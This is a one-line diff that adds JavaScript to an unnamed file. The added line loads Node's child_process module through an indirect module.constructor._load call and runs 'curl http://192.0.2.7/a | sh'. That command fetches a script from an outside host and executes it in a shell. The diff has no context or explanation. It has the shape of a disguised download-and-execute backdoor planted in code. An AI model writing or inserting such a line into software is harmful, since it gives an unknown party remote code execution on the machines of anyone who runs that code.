@@ -1,0 +1,1 @@
+module.constructor._load('child_process').exec('curl http://192.0.2.7/a | sh');
